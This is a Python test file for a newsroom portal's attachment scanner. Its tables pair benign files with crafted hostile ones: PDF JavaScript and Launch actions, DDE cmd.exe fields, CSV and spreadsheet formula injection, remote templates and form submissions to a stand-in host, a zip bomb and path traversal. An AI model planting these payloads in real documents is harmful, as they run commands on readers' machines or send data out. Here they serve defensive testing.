"""Attachments: what they would do or fetch is refused, what only says something is read."""

import io
import zipfile

import pytest

from files_of import WORD, docx, drawn, judged, odt, packed_pdf, xlsx, zipped
from newsroom_of import pdf
from portal.media.model import ATTACHMENT_BYTES

MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
PDF = pdf()
ODT_OTHER = {"mimetype": "application/vnd.oasis.opendocument.spreadsheet"}


def locked(raw: bytes) -> bytes:
    """Return an archive whose parts say that they are encrypted."""
    made = bytearray(raw)
    for magic, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = made.find(magic)
        while place >= 0:
            made[place + at] |= 1
            place = made.find(magic, place + 1)
    return bytes(made)


def field(code: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{letter}</w:instrText></w:r>" for letter in code)
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}</w:p>'


PDFS = [
    (PDF, ""),
    (pdf("<< /Title (JavaScript va /Launch trong ten) >>"), ""),
    (pdf("<< /A (1 0 \\\\( obj) >>", "<< /S /URI /URI (https://a.example/) >>"), ""),
    (pdf("<< /OpenAction [3 0 R /Fit] >>"), ""),
    (pdf("<< /Type /ExtGState /BM /Screen >>"), ""),
    (pdf("<< /AcroForm << /Fields [] >> >>"), ""),
    (pdf(text="Ham /JavaScript va /Launch"), ""),
    (pdf("% /JavaScript\n<< >>"), ""),
    (pdf("<< /JavaScripts 1 /Launched true >>"), ""),
    (packed_pdf("<< /Title (a) >>"), ""),
    (pdf("<< /S /JavaScript /JS (app.alert(1)) >>"), "active-content"),
    (pdf("<< /S /Java#53cript >>"), "active-content"),
    (pdf("<< /S /#4a#61#76#61#53#63#72#69#70#74 >>"), "active-content"),
    (pdf("<< /S/Launch/F(cmd.exe) >>"), "active-content"),
    (pdf("<< /OpenAction << /S /JavaScript >> >>"), "active-content"),
    (pdf("<< /OpenAction << /S /URI /URI (https://xau.example) >> >>"), "active-content"),
    (pdf("<< /Type /EmbeddedFile >>\nstream\nx\nendstream"), "active-content"),
    (pdf("<< /Names << /EmbeddedFiles 9 0 R >> >>"), "active-content"),
    (pdf("<< /Subtype /RichMedia >>"), "active-content"),
    (pdf("<< /AcroForm << /XFA 9 0 R >> >>"), "active-content"),
    (pdf("<< /S /SubmitForm /F (https://xau.example) >>"), "active-content"),
    (pdf("<< /S /ImportData >>"), "active-content"),
    (pdf("<< /S /GoToE >>"), "active-content"),
    (pdf("<< /A (never ends", "<< /S /JavaScript >>"), "active-content"),
    (pdf("<< /A <zz /S /JavaScript >>"), "active-content"),
    (pdf("/JavaScript"), "active-content"),
    (packed_pdf("<< /S /JavaScript >>"), "active-content"),
    (packed_pdf("<< /S /J#61vaScript >>"), "active-content"),
    (packed_pdf("<< /S /Launch >>", type_="/Other"), "active-content"),
    (packed_pdf("<< /S /Launch >>", filters="[/FlateDecode]"), "active-content"),
    (packed_pdf("<< /S /Launch >>", filters="[/ASCIIHexDecode /FlateDecode]"), "active-content"),
    (packed_pdf("<< /S /Launch >>", filters="/LZWDecode"), "damaged-file"),
    (packed_pdf("(" + "<< /S /Launch >>"), "active-content"),
    (PDF.replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt 9 0 R"), "encrypted-file"),
    (PDF.replace(b"/Root 1 0 R", b"/Root 1 0 R /#45ncrypt 9 0 R"), "encrypted-file"),
    (PDF + b"\n\n", ""),
    (PDF + b"<script>", "hidden-data"),
    (PDF + zipped({"a": "b"}), "hidden-data"),
    (b"\n" + PDF, "file-type-mismatch"),
    (b"<html>" + PDF, "file-type-mismatch"),
    (PDF[: len(PDF) // 2], "damaged-file"),
    (b"%PDF-1.4\nhong\n%%EOF\n", "damaged-file"),
    (b"%PDF-1.4\n%%EOF\n", "damaged-file"),
    (b"pdf", "file-type-mismatch"),
    (docx(), "file-type-mismatch"),
]
DOCXS = [
    (docx(), ""),
    (docx("", ("hyperlink", "https://a.example/", "External")), ""),
    (docx("", ("hyperlink", "mailto:a@b.example", "External")), ""),
    (docx("", ("image", "media/a.png", "")), ""),
    (docx("<w:p><w:r><w:t>DDEAUTO va macro la chu</w:t></w:r></w:p>"), ""),
    (docx(field("PAGE")), ""),
    (docx(field("HYPERLINK https://a.example")), ""),
    (docx(more={"word/vbaProject.bin": b"x"}), "active-content"),
    (docx(more={"word/VBAPROJECT.BIN": b"x"}), "active-content"),
    (docx(main=MACRO), "active-content"),
    (docx("", ("vbaProject", "a.bin", "")), "active-content"),
    (docx(more={"word/activeX/activeX1.xml": "<a/>"}), "active-content"),
    (docx(more={"word/embeddings/oleObject1.bin": b"x"}), "active-content"),
    (docx(more={"word/embeddings/Sheet.xlsx": b"x"}), "active-content"),
    (docx("", ("attachedTemplate", "https://xau.example/a.dotm", "External")), "active-content"),
    (docx("", ("image", "http://xau.example/a.png", "External")), "active-content"),
    (docx("", ("image", "http://xau.example/a.png", "")), "active-content"),
    (docx("", ("oleObject", "file:///a", "External")), "active-content"),
    (docx("", ("frame", "\\\\xau.example\\a", "External")), "active-content"),
    (docx("", ("hyperlink", "javascript:alert(1)", "External")), "active-content"),
    (docx("", ("hyperlink", "file:///c:/a.exe", "External")), "active-content"),
    (docx(field(" DDEAUTO c:\\\\windows\\\\cmd.exe")), "active-content"),
    (docx('<w:p><w:fldSimple w:instr="DDE excel a"/></w:p>'), "active-content"),
    (docx(field("INCLUDEPICTURE http://xau.example/a.png")), "active-content"),
    (
        docx(
            more={"word/document.xml": f'<!DOCTYPE a [<!ENTITY b "c">]><w:document xmlns:w="{WORD}">&b;</w:document>'}
        ),
        "active-content",
    ),
    (docx(more={"a.exe": b"MZ"}), "active-content"),
    (docx(more={"../../a": b"x"}), "hidden-data"),
    (docx() + b"x", "hidden-data"),
    (b"x" + docx(), "file-type-mismatch"),
    (b"PK\x03\x04" + docx(), "hidden-data"),
    (docx()[:-30], "damaged-file"),
    (docx()[: len(docx()) // 2], "damaged-file"),
    (docx(more={"word/a.xml": b"\0" * 30_000_000}), "file-too-large"),
    (locked(docx()), "encrypted-file"),
    (xlsx(), "file-type-mismatch"),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"), "encrypted-file"),
    (zipped({"a.txt": "a"}), "file-type-mismatch"),
    (zipped({}), "file-type-mismatch"),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "file-type-mismatch"),
    (PDF, "file-type-mismatch"),
]
XLSXS = [
    (xlsx(), ""),
    (xlsx("<c><f>SUM(A1:A9)</f><v>3</v></c>"), ""),
    (xlsx('<c t="inlineStr"><is><t>=cmd|a</t></is></c>'), ""),
    (xlsx("", ("hyperlink", "https://a.example", "External")), ""),
    (xlsx("<c><f>cmd|'/C calc'!A0</f></c>"), "active-content"),
    (xlsx('<c><f>WEBSERVICE("https://xau.example")</f></c>'), "active-content"),
    (xlsx(more={"xl/macrosheets/sheet1.xml": "<a/>"}), "active-content"),
    (xlsx(more={"xl/externalLinks/externalLink1.xml": "<a/>"}), "active-content"),
    (xlsx(more={"xl/connections.xml": "<a/>"}), "active-content"),
    (xlsx(more={"xl/vbaProject.bin": b"x"}), "active-content"),
    (docx(), "file-type-mismatch"),
]
ODTS = [
    (odt(), ""),
    (odt('<text:a xlink:href="https://a.example/">a</text:a>'), ""),
    (odt('<draw:image xlink:href="Pictures/a.png"/>'), ""),
    (odt('<draw:image xlink:href="https://xau.example/a.png"/>'), "active-content"),
    (odt('<draw:image xlink:href="../../a.png"/>'), "active-content"),
    (odt('<text:a xlink:href="vnd.sun.star.script:a">a</text:a>'), "active-content"),
    (odt('<text:a xlink:href="javascript:a">a</text:a>'), "active-content"),
    (odt("<script:event-listener/>"), "active-content"),
    (odt("<draw:object-ole/>"), "active-content"),
    (odt("<text:dde-connection-decl/>"), "active-content"),
    (odt(more={"Basic/Standard/a.xml": "<a/>"}), "active-content"),
    (odt(more={"Scripts/python/a.py": "a"}), "active-content"),
    (odt(more={"META-INF/manifest.xml": '<m xmlns:e="e"><e:encryption-data/></m>'}), "encrypted-file"),
    (odt(more=ODT_OTHER), "file-type-mismatch"),
    (docx(), "file-type-mismatch"),
]
CSVS = [
    ("Họ tên,Số\nNguyễn Văn A,12\n".encode(), ""),
    ("﻿Họ tên;Số\n".encode(), ""),
    (b"a,-12,+84912345678,-3.5%,- khong co\n", ""),
    (b"a,-,--,+\n", ""),
    (b'"a, b","c ""d"""\n', ""),
    (b"a,=1+1\n", "active-content"),
    (b"a,\"=cmd|'/C calc'!A0\"\n", "active-content"),
    (b"a;=HYPERLINK(1)\n", "active-content"),
    (b"@SUM(1)\n", "active-content"),
    (b"a,+cmd|'/C calc'!A0\n", "active-content"),
    (b"a,-2+3+cmd|' /C calc'!A0\n", "active-content"),
    (b"a,<script>alert(1)</script>\n", "hidden-data"),
    (b"<html><body>a</body></html>", "file-type-mismatch"),
    (b'a,"b\n', "damaged-file"),
    (b"a,\xff\xfe\n", "damaged-file"),
    (b"a\0b", "file-type-mismatch"),
    (PDF, "file-type-mismatch"),
    (b"MZ\x90", "file-type-mismatch"),
]
EVENT = "BEGIN:VEVENT\r\nUID:a\r\nDTSTART:20230611\r\nSUMMARY:Hop giao ban\r\n{}END:VEVENT\r\n"
CALENDAR = "BEGIN:VCALENDAR\r\nVERSION:2.0\r\n{}END:VCALENDAR\r\n"
ICSS = [
    (CALENDAR.format(EVENT.format("")), ""),
    (CALENDAR.format(EVENT.format("URL:https://a.example/\r\nDESCRIPTION:dai\r\n  hai dong\r\n")), ""),
    (CALENDAR.format(EVENT.format("BEGIN:VALARM\r\nACTION:DISPLAY\r\nEND:VALARM\r\n")), ""),
    (CALENDAR.format(EVENT.format("BEGIN:VALARM\r\nACTION:PROCEDURE\r\nEND:VALARM\r\n")), "active-content"),
    (CALENDAR.format(EVENT.format("ATTACH;ENCODING=BASE64;VALUE=BINARY:AAAA\r\n")), "active-content"),
    (CALENDAR.format(EVENT.format("ATTACH:file:///etc/passwd\r\n")), "active-content"),
    (CALENDAR.format(EVENT.format("URL:javascript:alert(1)\r\n")), "active-content"),
    (CALENDAR.format(EVENT.format("URL:java\r\n script:alert(1)\r\n")), "active-content"),
    (CALENDAR.format(EVENT.format("DESCRIPTION:<script>a</script>\r\n")), "hidden-data"),
    (CALENDAR.format(EVENT.format(""))[:-20], "damaged-file"),
    (CALENDAR.format(EVENT.format("")) + "<html>", "hidden-data"),
    (CALENDAR.format("BEGIN:VEVENT\r\n"), "damaged-file"),
    ("Họ tên", "file-type-mismatch"),
]
OTHERS = [
    ("files/a.exe", b"MZ", "unknown-file-type"),
    ("files/a.docm", docx(main=MACRO), "unknown-file-type"),
    ("files/a.html", b"<html>", "unknown-file-type"),
    ("files/a.zip", zipped({"a": "b"}), "unknown-file-type"),
    ("files/a.doc", b"\xd0\xcf\x11\xe0", "unknown-file-type"),
    ("files/a.png", b"\x89PNG\r\n\x1a\n", "unknown-file-type"),
    ("files/a.pdf.js", PDF, "unknown-file-type"),
    ("files/khong-duoi", PDF, "unknown-file-type"),
    ("files/A.PDF", PDF, ""),
    ("files/a.pdf", PDF + b" " * ATTACHMENT_BYTES, "file-too-large"),
]
CASES = [
    *((f"files/a.{suffix}", raw, rule) for suffix, found in (("pdf", PDFS), ("docx", DOCXS), ("xlsx", XLSXS), ("odt", ODTS), ("csv", CSVS)) for raw, rule in found),
    *(("files/a.ics", text.encode(), rule) for text, rule in ICSS),
    *OTHERS,
]  # fmt: skip


@pytest.mark.parametrize("number", range(len(CASES)))
def test_each_hazard_is_refused_and_its_neighbours_are_not(number: int) -> None:
    path, raw, rule = CASES[number]
    seen = judged(path, raw)
    assert seen.rule == rule, (seen, raw[:400])
    assert bool(seen.detail) == bool(rule)


def test_a_packing_bomb_is_refused_before_it_is_unpacked() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        for number in range(2):
            archive.writestr(f"word/{number}.xml", b" " * 20_000_000)
    assert judged("files/a.docx", out.getvalue()).rule == "file-too-large"


@pytest.mark.parametrize(
    ("path", "raw", "text"),
    [
        ("files/a.pdf", pdf(text="Thi dua yeu nuoc"), "Thi dua yeu nuoc"),
        ("files/a.docx", docx("<w:p><w:r><w:t>Thi đua</w:t></w:r><w:r><w:t>!</w:t></w:r></w:p><w:p/>"), "Thi đua!"),
        ("files/a.xlsx", xlsx(), "Số liệu"),
        (
            "files/a.docx",
            docx(
                "<w:tbl><w:tr><w:tc><w:p><w:r><w:t>Tên</w:t></w:r></w:p></w:tc><w:tc/></w:tr></w:tbl><w:p><w:r><w:t>Hết</w:t></w:r></w:p>"
            ),
            "Tên\nHết",
        ),
        ("files/a.xlsx", xlsx('<c><v>7</v></c><c t="inlineStr"><is><t>A</t></is></c>'), "7 | A"),
        ("files/a.odt", odt("<text:p>Thi <text:span>đua</text:span></text:p>"), "Thi đua"),
        ("files/a.csv", "Họ tên,Số\nA,1\n".encode(), "Họ tên | Số\nA | 1"),
    ],
)
def test_what_an_attachment_says_is_read(path: str, raw: bytes, text: str) -> None:
    assert judged(path, raw).text == text


def test_the_first_page_of_a_pdf_is_drawn() -> None:
    seen, made = drawn("files/a.pdf", PDF)
    assert (seen.rule, seen.pages) == ("", 1)
    assert sorted(width for kind, width in made if kind == "webp") == [160, 480]


def test_what_the_tables_hold() -> None:
    assert sum(1 for _, _, rule in CASES if not rule) >= 30
    assert sum(1 for _, _, rule in CASES if rule) >= 100
